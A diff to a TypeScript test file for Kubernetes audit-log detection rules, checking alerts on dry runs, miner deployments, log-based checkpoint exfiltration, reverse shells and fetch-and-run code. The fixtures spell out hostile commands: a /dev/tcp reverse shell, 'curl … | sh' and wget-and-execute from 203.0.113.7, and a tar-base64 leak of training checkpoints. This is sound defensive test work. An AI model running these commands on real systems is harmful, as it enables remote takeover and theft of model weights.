@@ -1,5 +1,5 @@
 /**
- * The workload rules (MLS-RAY-033 … 035, MLS-POISON-013, MLS-EXFIL-049) over audit events as the
+ * The workload rules (MLS-RAY-033 … 036, MLS-POISON-013, MLS-EXFIL-049) over audit events as the
  * real audit reader stores them (ingest pipeline → case file → caseEvents → the shipped rule set):
  * what a created or changed workload will run is read from the restored request body
  * (workload-fields.ts), whichever wrapper carries the pod spec; a subresource write other than a
@@ -8,7 +8,7 @@
 import { describe, expect, it } from 'vitest';
 import { decideAuditLines } from './audit-rules.test-support.js';
 
-const WORKLOAD_RULES: ReadonlySet<string> = new Set(['MLS-RAY-033', 'MLS-RAY-034', 'MLS-RAY-035', 'MLS-POISON-013', 'MLS-EXFIL-049', 'MLS-EXFIL-039']);
+const WORKLOAD_RULES: ReadonlySet<string> = new Set(['MLS-RAY-033', 'MLS-RAY-034', 'MLS-RAY-035', 'MLS-RAY-036', 'MLS-POISON-013', 'MLS-EXFIL-049', 'MLS-EXFIL-039']);
 const ALICE = { username: 'oidc:alice@corp.example', groups: ['system:authenticated'] };
 const JOB_CONTROLLER = { username: 'system:serviceaccount:kube-system:job-controller', groups: [] };
 const RS_CONTROLLER = { username: 'system:serviceaccount:kube-system:replicaset-controller', groups: [] };
@@ -16,12 +16,12 @@ const CKPT = { name: 'ck', persistentVolumeClaim: { claimName: 'llama-ft-ckpt' }
 
 let n = 0;
 /** One audit.k8s.io/v1 Event line at level Request: a write of `resource` with `body`, a second after the one before. */
-function write(verb: string, resource: string, body: Record<string, unknown>, code = 201, user: Record<string, unknown> = ALICE, apiGroup = '', subresource = ''): string {
+function write(verb: string, resource: string, body: Record<string, unknown>, code = 201, user: Record<string, unknown> = ALICE, apiGroup = '', subresource = '', query = ''): string {
   const at = new Date(Date.UTC(2026, 10, 20, 9, 0, n++)).toISOString();
   const base = apiGroup === '' ? '/api/v1' : `/apis/${apiGroup}/v1`;
   return JSON.stringify({
     kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Request', auditID: `workload-${n}`, stage: 'ResponseComplete',
-    requestURI: `${base}/namespaces/ml-train/${resource}${subresource ? `/w${n}/${subresource}` : ''}`, verb, user, sourceIPs: ['10.0.0.5'], userAgent: 'kubectl/v1.30.2',
+    requestURI: `${base}/namespaces/ml-train/${resource}${subresource ? `/w${n}/${subresource}` : ''}${query}`, verb, user, sourceIPs: ['10.0.0.5'], userAgent: 'kubectl/v1.30.2',
     objectRef: { resource, namespace: 'ml-train', name: `w${n}`, apiVersion: 'v1', ...(apiGroup ? { apiGroup } : {}), ...(subresource ? { subresource } : {}) },
     responseStatus: { metadata: {}, code }, requestObject: body, requestReceivedTimestamp: at, stageTimestamp: at,
   });
@@ -81,6 +81,47 @@ describe('workload rules through the real audit reader', () => {
       '17 pods/status -',
       '18 pods MLS-EXFIL-049 alert',
       '19 pods -',
+    ]);
+  });
+
+  it('leave a server-side dry run (the exact dryRun=All parameter), read archives a pod prints to its log, expand $(NAME) as the kubelet does, and see code a persons workload fetches and runs', async () => {
+    const miner = templated('Deployment', { containers: [{ name: 'm', image: 'xmrig/xmrig' }] });
+    const claim = pod({ containers: [{ name: 'c', image: 'busybox', command: ['sleep', '3600'] }], volumes: [CKPT] });
+    const lines = [
+      write('create', 'deployments', miner, 201, ALICE, 'apps', '', '?dryRun=All'),
+      write('create', 'deployments', miner, 201, ALICE, 'apps', '', '?fieldManager=kubectl-client-side-apply&dryRun=All'),
+      write('create', 'pods', claim, 201, ALICE, '', '', '?dryRun=All&fieldManager=kubectl-run'),
+      // Not a dry run: a field manager whose value spells one, and a parameter that only starts like it.
+      write('create', 'deployments', miner, 201, ALICE, 'apps', '', '?fieldManager=dryRun=All'),
+      write('create', 'deployments', miner, 201, ALICE, 'apps', '', '?dryRun=Allx'),
+      // A checkpoint directory archived to the container's output, for kubectl logs (MLS-EXFIL-049); a log directory so (left).
+      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', 'tar czf - /mnt/ckpt/step-9000 | base64 -w0; sleep 3600'] }] })),
+      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', 'tar czf - /var/log/trainer | base64 -w0; sleep 3600'] }] })),
+      // A reverse shell no command word spells: the kubelet expands $(P) from the env (MLS-RAY-034); the same with $$(P), the literal text (left).
+      write('create', 'deployments', templated('Deployment', { containers: [{ name: 'w', image: 'python:3.12', command: ['sh', '-c', '$(P)'], env: [{ name: 'H', value: '203.0.113.7' }, { name: 'P', value: 'bash -i >& /dev/tcp/$(H)/4444 0>&1' }] }] }), 201, ALICE, 'apps'),
+      write('create', 'deployments', templated('Deployment', { containers: [{ name: 'w', image: 'python:3.12', command: ['sh', '-c', 'echo "$$(P)"'], env: [{ name: 'P', value: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' }] }] }), 201, ALICE, 'apps'),
+      // Code fetched and run (MLS-RAY-036): piped into a shell in a person's init container, downloaded and started by a RayJob entrypoint;
+      // the ReplicaSet controller's pod from that template, and a Job that fetches a dataset and runs the image's own trainer (left).
+      write('create', 'deployments', templated('Deployment', { initContainers: [{ name: 'i', image: 'curlimages/curl', command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/i.sh | sh'] }], containers: [{ name: 'w', image: 'nginx' }] }), 201, ALICE, 'apps'),
+      write('create', 'rayjobs', { kind: 'RayJob', spec: { entrypoint: 'wget -q http://203.0.113.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x' } }, 201, ALICE, 'ray.io'),
+      write('create', 'pods', pod({ initContainers: [{ name: 'i', image: 'curlimages/curl', command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/i.sh | sh'] }], containers: [{ name: 'w', image: 'nginx' }] }), 201, RS_CONTROLLER),
+      write('create', 'jobs', templated('Job', { containers: [{ name: 't', image: 'corp/llama-ft:1.4', command: ['sh', '-c', 'curl -fsSL -o /data/d.tgz https://data.corp.example/d.tgz && tar xzf /data/d.tgz -C /data && python train.py --data /data/d'] }] }), 201, ALICE, 'batch'),
+    ];
+    const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
+    expect(got).toEqual([
+      '1 deployments -',
+      '2 deployments -',
+      '3 pods -',
+      '4 deployments MLS-RAY-033 alert',
+      '5 deployments MLS-RAY-033 alert',
+      '6 pods MLS-EXFIL-049 alert',
+      '7 pods -',
+      '8 deployments MLS-RAY-034 alert',
+      '9 deployments -',
+      '10 deployments MLS-RAY-036 alert',
+      '11 rayjobs MLS-RAY-036 alert',
+      '12 pods -',
+      '13 jobs -',
     ]);
   });
 });
